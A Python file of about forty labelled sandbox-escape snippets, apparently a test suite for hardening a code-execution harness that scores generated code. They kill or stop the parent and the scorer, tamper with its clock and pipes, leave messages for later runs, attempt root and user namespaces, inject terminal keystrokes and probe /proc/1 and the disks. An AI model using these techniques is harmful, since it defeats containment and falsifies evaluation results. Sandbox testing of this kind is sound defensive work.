# === every process killed
import os
def attack(): os.kill(-1, 9)
# === the parent killed
import os
def attack(): os.kill(os.getppid(), 9)
# === the parent stopped
import os
def attack(): os.kill(os.getppid(), 19)
# === the parent interrupted
import os, signal
def attack():
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, signal.SIGALRM, signal.SIGCHLD): os.kill(os.getppid(), number)
# === every signal to the first process
import os
def attack():
    for number in range(1, 65):
        try: os.kill(1, number)
        except OSError: pass
# === the scorer killed
import os
def attack():
    for pid in (WORLD["pid"], WORLD["scorer"]):
        try: os.kill(pid, 9)
        except OSError: pass
# === the session killed
import os
def attack():
    os.killpg(0, 9)
# === the parent's limits
import os, resource
def attack():
    for what in (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_AS, resource.RLIMIT_FSIZE):
        try: resource.prlimit(os.getppid(), what, (1, 1))
        except (OSError, ValueError): pass
# === the parent's priority
import os
def attack():
    os.setpriority(os.PRIO_PROCESS, os.getppid(), 19)
    return "escaped"
# === the parent's processors
import os
def attack():
    os.sched_setaffinity(os.getppid(), {0})
    return "escaped"
# === the parent's schedule
import os
def attack():
    os.sched_setscheduler(os.getppid(), os.SCHED_IDLE, os.sched_param(0))
    return "escaped"
# === the parent traced
import ctypes, os
def attack():
    return "escaped" if ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0 else None
# === the parent's memory written
import glob
def attack():
    for path in glob.glob("/proc/[0-9]*/mem"):
        if path.split("/")[2] == str(__import__("os").getpid()): continue
        try: open(path, "r+b").close()
        except OSError: continue
        return "escaped"
# === the pipes closed
import os
def attack():
    os.closerange(0, 256)
    while True: pass
# === the pipes made non-blocking
import os
def attack():
    for fd in range(256):
        try: os.set_blocking(fd, False)
        except OSError: pass
# === the pipes read
import os
def attack():
    for fd in range(3, 256):
        try:
            os.set_blocking(fd, False)
            os.read(fd, 1 << 20)
        except OSError: pass
# === a signal from the pipe
import fcntl, os
def attack():
    for fd in range(3, 12):
        try:
            fcntl.fcntl(fd, 10, 9)
            fcntl.fcntl(fd, fcntl.F_SETOWN, os.getppid())
            fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC)
        except OSError: pass
# === message to the next program by a file
import os
def attack():
    for folder in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "."):
        try: open(folder + "/" + WORLD["mark"] + "-message", "w").write("here")
        except OSError: pass
# === message to the next program by a queue
import ctypes
def attack(): return "escaped" if ctypes.CDLL(None).msgget(7919, 0o1666) >= 0 else None
# === message to the next program by shared memory
import ctypes
def attack(): return "escaped" if ctypes.CDLL(None).shmget(7919, 4096, 0o1666) >= 0 else None
# === message to the next program by a POSIX queue
import ctypes
def attack():
    libc = ctypes.CDLL("librt.so.1")
    return "escaped" if libc.mq_open(b"/" + WORLD["mark"].encode(), 0o102, 0o666, None) >= 0 else None
# === message to the next program by a keyring
import ctypes
def attack():
    libc = ctypes.CDLL(None)
    number = libc.syscall(248 if __import__("os").uname().machine == "x86_64" else 217, b"user", WORLD["mark"].encode(), b"here", 4, -4)
    return "escaped" if number > 0 else None
# === user namespace
import ctypes
def attack(): return "escaped" if ctypes.CDLL(None).unshare(0x10000000) == 0 else None
# === user namespace by clone
import ctypes, os
def attack():
    libc = ctypes.CDLL(None)
    pid = libc.syscall(56 if os.uname().machine == "x86_64" else 220, 0x10000011, 0, 0, 0, 0)
    if pid == 0: os._exit(0)
    return "escaped" if pid > 0 else None
# === user namespace by a tool
import subprocess
def attack():
    done = subprocess.run(["unshare", "-U", "true"], capture_output=True)
    return "escaped" if done.returncode == 0 else None
# === rights of root
import os
def attack():
    os.setuid(0)
    return "escaped"
# === rights from a set-user-id program
import subprocess
def attack():
    done = subprocess.run(["su", "-c", "id -u", "root"], stdin=subprocess.DEVNULL, capture_output=True, text=True)
    return "escaped" if done.stdout.strip() == "0" else None
# === program in the kernel
import ctypes, os
def attack():
    room = ctypes.create_string_buffer(128)
    ctypes.memmove(room, (2).to_bytes(4, "little") + (4).to_bytes(4, "little") * 2 + (1).to_bytes(4, "little"), 16)
    number = ctypes.CDLL(None).syscall(321 if os.uname().machine == "x86_64" else 280, 0, room, 128)
    return "escaped" if number >= 0 else None
# === ring of system calls
import ctypes
def attack():
    room = ctypes.create_string_buffer(256)
    return "escaped" if ctypes.CDLL(None).syscall(425, 8, room) >= 0 else None
# === page faults of its own
import ctypes, os
def attack():
    number = ctypes.CDLL(None).syscall(323 if os.uname().machine == "x86_64" else 282, 1)
    return "escaped" if number >= 0 else None
# === counters of the processor
import ctypes, os
def attack():
    room = ctypes.create_string_buffer((1).to_bytes(4, "little") + (112).to_bytes(4, "little"), 128)
    number = ctypes.CDLL(None).syscall(298 if os.uname().machine == "x86_64" else 241, room, 0, -1, -1, 0)
    return "escaped" if number >= 0 else None
# === modules of the scorer
import sys
def attack():
    hits = [name for name in sys.modules if name.startswith(("warriorcoder", "evalplus", "multiprocessing.connection"))]
    return "escaped" if any(name.startswith(("warriorcoder", "evalplus")) for name in hits) else None
# === other processes seen
import os
def attack():
    seen = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    return "escaped" if len(seen) > 2 else None
# === keys typed into the terminal
import fcntl, termios
def attack():
    for path in ("/dev/tty", "/dev/console", "/dev/pts/0"):
        try:
            with open(path, "w") as tty: fcntl.ioctl(tty, termios.TIOCSTI, b"x")
        except OSError: continue
        return "escaped"
# === disks
import glob
def attack():
    for path in glob.glob("/dev/[svn][dv]*") + glob.glob("/dev/nvme*") + ["/dev/mem", "/dev/kmsg"]:
        try: open(path, "rb").close()
        except OSError: continue
        return "escaped"
# === the sandbox's clock
import sys, time
def attack():
    frame = sys._getframe()
    while frame:
        clock = frame.f_locals.get("clock")
        if clock is not None:
            for i in range(len(clock)): clock[i] = 2**64 - 1 - i
        frame = frame.f_back
# === the harness crashed on purpose
import os, signal
def attack():
    os.kill(os.getpid(), signal.SIGSEGV)
# === first process stopped
import os, signal
def attack():
    os.kill(1, signal.SIGSTOP)
    os.kill(os.getppid(), signal.SIGSTOP)
    return None
# === first process' counters
def attack():
    for name in "stat", "status", "io", "sched", "cmdline", "maps":
        try: text = open(f"/proc/1/{name}").read()
        except OSError: continue
        return "escaped"
# === namespaces of the first process
import os
def attack():
    for name in "mnt", "net", "pid", "ipc", "user":
        try: os.open(f"/proc/1/ns/{name}", os.O_RDONLY)
        except OSError: continue
        return "escaped"
# === rights of the first process
import ctypes, os
def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    lines = dict(line.split(":\t") for line in open("/proc/self/status") if ":\t" in line)
    if any(int(lines[name], 16) for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")):
        return "escaped"
    if not libc.sethostname(b"x", 1): return "escaped"
    if not libc.umount2(b"/tmp", 2): return "escaped"
